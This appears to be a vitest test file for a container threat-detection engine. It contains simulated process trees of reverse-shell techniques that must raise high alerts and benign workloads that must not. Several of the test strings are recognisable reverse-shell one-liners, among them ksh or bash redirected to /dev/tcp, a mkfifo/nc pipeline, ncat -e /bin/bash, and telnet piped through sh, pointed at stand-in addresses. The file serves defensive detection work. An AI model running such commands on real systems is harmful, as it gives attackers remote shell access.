import { describe, expect, it } from 'vitest';
import { detect } from '../../src/detections/engine.js';
import { scenario } from '../../src/detections/scenario.js';
import { caseOfScenario } from '../../src/detections/scenario-case.js';
import { levelRank } from '../../src/model/finding.js';

const alarms = (drawing: string) =>
  detect(caseOfScenario(scenario('technique', drawing))).findings.filter((finding) => levelRank(finding.level) >= levelRank('high'));

/** Below a server that has run for twenty minutes. */
const inServer = (drawing: string) => `
  container web
  0       node server.js
${drawing}`;

const TECHNIQUES: readonly (readonly [string, string])[] = [
  [
    'zsh opens a socket with a module and runs another zsh on it',
    `
  1200      zsh -c "zmodload zsh/net/tcp; ztcp host 4444; zsh >&$REPLY"
  1200.1      > tcp 203.0.113.9:4444
  1200.2      zsh`,
  ],
  [
    'ksh is redirected to a socket in place',
    `
  1200      ksh -c "exec ksh >/dev/tcp/host/4444"
  1200.1      > tcp 203.0.113.9:4444
  1200.2      => ksh`,
  ],
  [
    'gawk reads commands from its own socket',
    `
  1200      gawk "BEGIN{…}"
  1200.1      > tcp 203.0.113.9:4444
  1201        sh -c "id"
  1201.1        id`,
  ],
  [
    'tclsh is fed a program and runs what it reads',
    `
  1200      tclsh
  1200.1      > tcp 203.0.113.9:4444
  1203        id`,
  ],
  [
    'perl forks away before it connects',
    `
  1200      perl -MIO -e "$p=fork;exit,if($p);…"
  1200.1      fork
  1200.2        > tcp 203.0.113.9:4444
  1203          sh -c "id"
  1203.1          id`,
  ],
  [
    'java spawns a shell through its helper, then connects',
    `
  1200      java /tmp/R.java
  1201        jspawnhelper 12:14
  1201.1        => /bin/sh
  1201.5      > tcp 203.0.113.9:4444`,
  ],
  [
    'a compiled program in a temporary folder runs a shell',
    `
  1200      /tmp/go-build1/exe/main
  1200.1      > tcp 10.9.9.9:4444
  1200.2      /bin/sh`,
  ],
  [
    'busybox does it all',
    `
  1200      busybox sh -c "…"
  1200.1      /proc/self/exe mkfifo /tmp/f
  1200.2      /proc/self/exe sh -i
  1200.2      /proc/self/exe nc host 4444
  1200.3        > tcp 203.0.113.9:4444`,
  ],
  [
    'telnet twice around a shell',
    `
  1200      sh -c "telnet host 1 | sh | telnet host 2"
  1200.1      telnet host 1
  1200.1      sh
  1200.1      telnet host 2`,
  ],
  [
    'a program lives in memory only',
    `
  1200      python3 -c "memfd…"
  1200.1      > tcp 203.0.113.9:443
  1200.2      => /proc/self/fd/4`,
  ],
  [
    'a terminal is made with script',
    `
  1200      bash -c "script -qc 'bash -i' /dev/null >& /dev/tcp/host/1"
  1200.01     fork
  1200.02       > tcp 203.0.113.9:5555
  1200.03       => script -qc "bash -i" /dev/null
  1200.1        sh -c "bash -i"
  1200.2          bash -i`,
  ],
  [
    'nc waits in a pipeline',
    `
  1200      sh -c "mkfifo /tmp/f;cat /tmp/f|sh -i|nc -lp 9001 >/tmp/f"
  1200.1      mkfifo /tmp/f
  1200.2      sh -i
  1200.2      nc -lp 9001
  1200.3        listen tcp 9001`,
  ],
  [
    'a compiled program waits and becomes a shell, no socket on record',
    `
  1200      /dev/shm/.b
  1260        => /bin/sh -i`,
  ],
  [
    'ncat speaks a protocol that no policy recorded',
    `
  1200      ncat --udp host 53 -e /bin/bash
  1200.1      /bin/bash`,
  ],
  [
    'the call stays inside the cluster',
    `
  1200      python3 -c "…"
  1200.1      > tcp 10.0.0.66:4444
  1200.2      /bin/sh -i`,
  ],
  [
    'an exploited server spawns a shell in its own process',
    `
  1200      > tcp 203.0.113.9:4444
  1200.1    /bin/sh -i`,
  ],
];

describe('a technique is found at level high or above', () => {
  it.each(TECHNIQUES)('%s', (_, drawing) => {
    expect(alarms(inServer(drawing)).length).toBeGreaterThan(0);
  });

  it.each(TECHNIQUES)('and is one story: %s', (_, drawing) => {
    const shells = alarms(inServer(drawing)).filter((finding) => !finding.rule.id.startsWith('lateral'));
    expect(shells).toHaveLength(1);
  });
});

describe('daily work stays below high', () => {
  it.each([
    [
      'a build job is fed to bash on its standard input',
      `
  container build
  0       bash
  1         git clone https://git.example.com/x.git
  1.1         > tcp 203.0.113.22:443
  5         npm ci
  5.1         > tcp 203.0.113.23:443
  6           sh -c "node-gyp rebuild"`,
    ],
    [
      'a container is started as a bare shell through a runtime in memory',
      `
  container tools
  0       /proc/self/fd/6 init
  0.1       => bash`,
    ],
    [
      'a runner executes a job script and calls its server all the time',
      `
  container runner
  0       /opt/runner
  10        > tcp 203.0.113.20:443 until 11
  20        > tcp 203.0.113.20:443 until 21
  30        > tcp 203.0.113.20:443 until 31
  40        > tcp 203.0.113.20:443
  41        bash -e /tmp/job.sh
  42          make`,
    ],
    [
      'an agent that calls home opens a shell for its owner',
      `
  container agent
  0       /usr/bin/teleport start
  400       > tcp 203.0.113.20:3025
  401       /bin/bash -l
  402         id`,
    ],
    [
      'an operator works in a container and checks ports',
      `
  container web
  0       node server.js
  400     bash {entered}
  401       nc -z db 5432
  401.1       > tcp 10.0.0.20:5432
  405       curl -s http://localhost:8000
  410       sh -c "ls | wc -l"
  411       python3 -c "import socket"
  411.1       > tcp 10.0.0.20:5432`,
    ],
    [
      'cron runs a script that waits for a port',
      `
  container cron
  0       crond -f
  600       sh -c "/opt/job.sh"
  600.1       bash /opt/job.sh
  600.2         > tcp 10.0.0.20:5432 until 600.3
  601           pg_dump db
  602           gzip -c`,
    ],
    [
      'a proxy passes callers on',
      `
  container gateway
  0       socat TCP-LISTEN:8081,fork TCP:web:80
  0.1       listen tcp 8081
  60        fork
  60.1        > tcp 10.0.0.20:80`,
    ],
    [
      'a backup is sent over ssh',
      `
  container backup
  0       bash /opt/backup.sh
  600       tar czf - /data
  600       ssh backup@host "cat > /srv/data.tgz"
  600.1       > tcp 203.0.113.50:22`,
    ],
    [
      'a readiness probe opens a socket and greps the answer',
      `
  container web
  0       node server.js
  400     bash -c "exec 3<>/dev/tcp/10.0.0.5/80; grep -q OK <&3" {probe}
  400.1     > tcp 10.0.0.5:80
  400.2     grep -q OK`,
    ],
  ])('%s', (_, drawing) => {
    expect(alarms(drawing).map((finding) => finding.title)).toEqual([]);
  });
});
